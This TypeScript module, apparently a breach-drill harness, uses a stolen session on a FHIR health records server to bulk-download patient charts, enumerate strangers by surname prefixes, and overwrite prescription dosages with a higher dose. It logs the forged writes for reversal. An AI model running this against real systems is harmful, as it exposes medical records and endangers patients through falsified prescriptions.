import { entriesOf, type FhirClient } from './fhir-client.ts'
import { PREFIXES } from './prefixes.ts'

export interface Thief {
  readonly client: FhirClient
  /** Whose charts the stolen session may open, as logical ids. */
  readonly patients: readonly string[]
  /** Of so many the prescription is doubled on the way. */
  readonly forgeries: number
  /** Between one chart and the next, in milliseconds. */
  readonly paceMs: number
}

/** What a theft came to. */
export interface Stolen {
  /** `MedicationRequest/x` that were doubled. */
  readonly forged: readonly string[]
  /** Charts asked for. */
  readonly asked: number
  /** When an answer said that the session is over, in milliseconds since 1970; undefined: they ran out of charts. */
  readonly stoppedAt: number | undefined
}

const UNAUTHENTICATED = 401

/**
 * In real time: whole charts as fast as the pace says, first those the session may open, then those of strangers from the
 * directory, until the session is ended.
 */
export async function stealUntilStopped({ client, patients, forgeries, paceMs }: Thief): Promise<Stolen> {
  const forged: string[] = []
  let asked = 0
  for await (const id of chartsOf(client, patients)) {
    const { status } = await client.get(`Patient/${id}/$everything`)
    if (status === UNAUTHENTICATED) return { forged, asked, stoppedAt: Date.now() }
    asked += 1
    if (status === 200 && forged.length < forgeries) forged.push(...(await forge(client, id)))
    await new Promise((resolve) => setTimeout(resolve, paceMs))
  }
  return { forged, asked, stoppedAt: undefined }
}

async function* chartsOf(client: FhirClient, own: readonly string[]): AsyncGenerator<string> {
  yield* own
  for (const family of PREFIXES) {
    const found = await client.search('Patient', { family, _count: '5' })
    if (found.status === UNAUTHENTICATED) yield own[0] ?? ''
    for (const { resourceType, id } of entriesOf(found)) if (resourceType === 'Patient') yield id ?? ''
  }
}

/** Doubles a prescription: what an intruder writes has to be found too, and taken back. */
export async function forge(client: FhirClient, id: string): Promise<readonly string[]> {
  const [prescription] = entriesOf(await client.get(`MedicationRequest?patient=${id}&_count=1`))
  if (prescription?.id === undefined) return []
  const place = `MedicationRequest/${prescription.id}`
  const doubled = { ...prescription, dosageInstruction: [{ text: 'Take two tablets four times daily' }] }
  const { status } = await client.send('PUT', place, doubled)
  return status === 200 ? [place] : []
}
